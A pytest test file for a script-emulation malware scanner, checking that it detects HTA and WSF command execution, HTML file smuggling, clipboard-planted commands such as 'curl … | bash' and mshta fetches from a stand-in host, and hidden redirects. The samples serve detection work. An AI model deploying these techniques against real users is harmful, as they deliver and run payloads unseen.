"""Pages, HTML applications and .wsf files, from their bytes to what their scripts do."""

from __future__ import annotations

import pytest

from emoscan.engine import expand
from emoscan.registry import discover


def scan(source, name):
    discover()
    return expand(source.encode(), name)


def effects(graph, kind):
    return [fact.value for _, fact in graph.facts(graph.root, f"effect.{kind}")]


def test_a_wsf_runs_its_scripts_of_both_languages():
    graph = scan(
        '<job id="x"><script language="VBScript"><![CDATA[\nWScript.Echo "v" & 1\n]]></script>'
        '<script language="JScript">new ActiveXObject("WScript.Shell").Run("a.exe " + (1 < 2));</script></job>',
        "a.wsf",
    )
    assert effects(graph, "dialog") == ["v1"]
    assert effects(graph, "run") == ["a.exe true"]


def test_an_html_application():
    graph = scan(
        '<html><head><hta:application id="a"/><script language="VBScript">\nSub window_onload\n'
        'CreateObject("WScript.Shell").Run "calc.exe " & document.title, 0\nself.close\nEnd Sub</script></head></html>',
        "a.hta",
    )
    assert effects(graph, "run") == ["calc.exe "]


def test_an_html_application_in_jscript():
    graph = scan('<script>window.resizeTo(0,0); new ActiveXObject("WScript" + ".Shell").Run("calc.exe"); window.close()</script>', "a.hta")
    assert effects(graph, "run") == ["calc.exe"]


def test_scripts_of_both_languages_share_their_names():
    graph = scan(
        "<html><head><hta:application id=a></head><p id=c>6162</p>"
        "<script language=javascript>var Shell = new ActiveXObject('WScript.Shell'); function undo(s) { return unescape('%' + s.substr(0, 2) + '%' + s.substr(2)) }"
        "Shell.RegWrite('HKCU\\\\a', document.getElementById('c').innerHTML)</script>"
        '<script language=vbscript>\nfound = shell.RegRead("HKCU\\a") & ""\nplain = undo(found)\nFunction Twice(x)\nTwice = x & x\nEnd Function</script>'
        "<script language=javascript>Shell.Run('run ' + found + ' ' + plain + ' ' + Twice('z'))</script></html>",
        "a.hta",
    )
    assert effects(graph, "run") == ["run 6162 ab zz"]


def test_a_scriptlet():
    graph = scan(
        '<?XML version="1.0"?><scriptlet><registration progid="x"><script language="JScript"><![CDATA['
        'new ActiveXObject("WScript.Shell").Run("calc.exe");]]></script></registration></scriptlet>',
        "a.sct",
    )
    assert effects(graph, "run") == ["calc.exe"]


def test_a_page_that_smuggles_a_file():
    graph = scan(
        "<html><body><p id='x'>ZWNobyBoaQ==</p><script>var a = document.createElement('a');"
        "a.href = window.URL.createObjectURL(new Blob([atob(document.getElementById('x').innerHTML)]));"
        "a.download = 'x.bat'; document.body.appendChild(a); a.click();</script></body></html>",
        "a.html",
    )
    assert b"echo hi" in [artifact.data for artifact in graph.artifacts.values()]
    assert [fact.value for artifact in graph.artifacts for _, fact in graph.facts(artifact, "html.smuggle") if fact.how == "click"] == [
        "x.bat"
    ]


def test_a_page_that_smuggles_a_program():
    graph = scan(
        "<html><body><script>var a = document.createElement('a'); var d = [80, 75, 3, 4, 20]; for (var i = 0; i < 60; i++) d.push(0);"
        "a.href = URL.createObjectURL(new Blob([new Uint8Array(d)])); a.download = 'x.zip'; a.click();</script></body></html>",
        "a.html",
    )
    assert [fact.value for artifact in graph.artifacts for _, fact in graph.facts(artifact, "html.smuggle") if fact.how == "click"] == [
        "x.zip"
    ]


def test_an_ordinary_page_yields_nothing():
    graph = scan(
        "<html><body><script>var n = 1; document.getElementById('q').style.color = 'red'; console.log(n)</script></body></html>", "a.html"
    )
    assert len(graph.artifacts) == 1
    assert not effects(graph, "run")


def test_what_a_page_writes_may_be_the_password_of_what_it_saves():
    graph = scan(
        "<html><body><script>document.write('Pass'); document.write('word: '); document.write('x' + 'yz7')</script></body></html>", "a.html"
    )
    assert b"\nPassword: xyz7" in [artifact.data for artifact in graph.artifacts.values()]


def test_addresses_that_stand_nowhere_in_clear():
    for source, count in (("'http://files.example.test/a'", 0), ("'http://files.exam' + 'ple.test/a'", 1)):
        graph = scan(f"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', {source}, false); x.send(); WScript.Echo(1);", "a.js")
        assert len([fact for _, fact in graph.facts(graph.root, "obfuscation.address")]) == count


RUN = 'CreateObject("WScript.Shell").Run '


@pytest.mark.parametrize(
    ("source", "commands"),
    [
        ('<div id="d">exe.a</div><script language=vbscript>\nRUN StrReverse(document.getElementById("d").innerText)\n</script>', ["a.exe"]),
        ('<textarea id="box">a.exe</textarea><script language=vbscript>RUN box.value</script>', ["a.exe"]),
        ('<p>a.exe</p><script language=vbscript>RUN document.getElementsByTagName("p")(0).innerHTML</script>', ["a.exe"]),
        ('<p>a.exe</p><script>new ActiveXObject("WScript.Shell").Run(document.getElementsByTagName("p")[0].innerHTML)</script>', ["a.exe"]),
        ("<title>a.exe</title><script language=vbscript>RUN document.title</script>", ["a.exe"]),
        ('<title>a.exe</title><script>new ActiveXObject("WScript.Shell").Run(document.title)</script>', ["a.exe"]),
        ('<p id="q" data-c="a.exe"></p><script language=vbscript>RUN q.getAttribute("data-c") & document.all.q.dataset.c</script>', ["a.exea.exe"]),
        ('<p id="q">x</p><script language=vbscript>RUN document.all("q").innerText & document.all.q.tagName</script>', ["xP"]),
        ('<script for="window" event="onload" language="vbscript">RUN n.value</script><input name=n value="a.exe">', ["a.exe"]),
        ('<script language=vbscript>\nSub go\nRUN "a.exe"\nsetTimeout "go", 9\nEnd Sub\nsetTimeout "go", 9, "VBScript"\n</script>', ["a.exe"]),
        ('<object id="sh" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><script>sh.Run("a.exe")</script>', ["a.exe"]),
        ('<object id="sh" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><script language=vbscript>sh.Run "a.exe"</script>', ["a.exe"]),
        ('<hta:application id=o><script>new ActiveXObject("WScript.Shell").Run(o.commandLine.slice(-7, -2))</script>', ["a.hta"]),
        ("<hta:application id=o><script language=vbscript>RUN Right(o.commandLine, 8)</script>", ['\\a.hta" ']),
    ],
)  # fmt: skip
def test_an_html_application_asks_for_its_elements(source, commands):
    source = f"<html><hta:application>{source}</html>".replace("RUN ", RUN)
    found = effects(scan(source, "a.hta"), "run")
    assert found == commands


@pytest.mark.parametrize(
    ("source", "commands"),
    [
        ('<object id="sh" progid="WScript.Shell"/><resource id="r">a.exe</resource><script language=JScript>sh.Run(getResource("r"))</script>', ["a.exe"]),
        ('<resource id="r">a.exe</resource><object id="sh" progid="WScript.Shell"/><script language=VBScript>sh.Run getResource("r")</script>', ["a.exe"]),
    ],
)  # fmt: skip
def test_a_wsf_declares_objects_and_resources(source, commands):
    assert effects(scan(f"<package><job>{source}</job></package>", "a.wsf"), "run") == commands


def test_a_script_from_a_server_runs_as_if_it_stood_there():
    graph = scan('<job><script language="JScript" src="http://files.example.test/a.js"/></job>', "a.wsf")
    assert effects(graph, "download") == ["http://files.example.test/a.js"]
    assert effects(graph, "eval") == ["<Unknown: content of http://files.example.test/a.js>"]


@pytest.mark.parametrize(
    ("source", "commands"),
    [
        ("<button onclick=\"navigator.clipboard.writeText('mshta http://files.example.test/a')\">", ["mshta http://files.example.test/a"]),
        ("<button onclick=\"navigator.clipboard.writeText('npm install emoscan')\">", []),
        ("<button onclick=\"navigator.clipboard.writeText('curl -s http://files.example.test/a | bash')\">", []),
        ("<body oncopy=1><script>addEventListener('copy', function (e) { e.clipboardData.setData('text/plain', 'p^ow^ershell -w 1 x') })</script>",
         ["p^ow^ershell -w 1 x"]),
        ("<script>var t = document.createElement('input'); t.value = 'cmd /c a.exe'; t.select(); document.execCommand('copy')</script>", ["cmd /c a.exe"]),
    ],
)  # fmt: skip
def test_a_page_puts_a_command_line_into_the_clipboard(source, commands):
    graph = scan(f"<html>{source}</html>", "a.html")
    assert [fact.value for _, fact in graph.facts(graph.root, "html.clipboard")] == commands


def test_what_a_reader_of_files_gives_comes_later():
    graph = scan(
        "<script>var r = new FileReader(); r.onload = function (e) { var a = document.createElement('a'); a.href = e.target.result;"
        " a.download = 'a.js'; a.click(); }; r.readAsDataURL(new Blob(['var made = 1;']));</script>",
        "a.html",
    )
    assert [fact.value for _, fact in graph.facts(graph.root, "html.smuggle")] == ["a.js"]
    assert b"var made = 1;" in [artifact.data for artifact in graph.artifacts.values()]


@pytest.mark.parametrize(
    ("script", "addresses"),
    [
        ("location.href = atob('aHR0cHM6Ly9maWxlcy5leGFtcGxlLnRlc3QvYQ==')", ["https://files.example.test/a"]),
        ("location = 'https://files.example.test/a'", []),
        ("location.href = location.href + '?again'", []),
        ("window.open('/help' + 1)", []),
    ],
)
def test_a_page_leads_to_an_address_that_it_hides(script, addresses):
    graph = scan(f"<html><script>{script}</script></html>", "a.html")
    assert [fact.value for _, fact in graph.facts(graph.root, "html.redirect")] == addresses
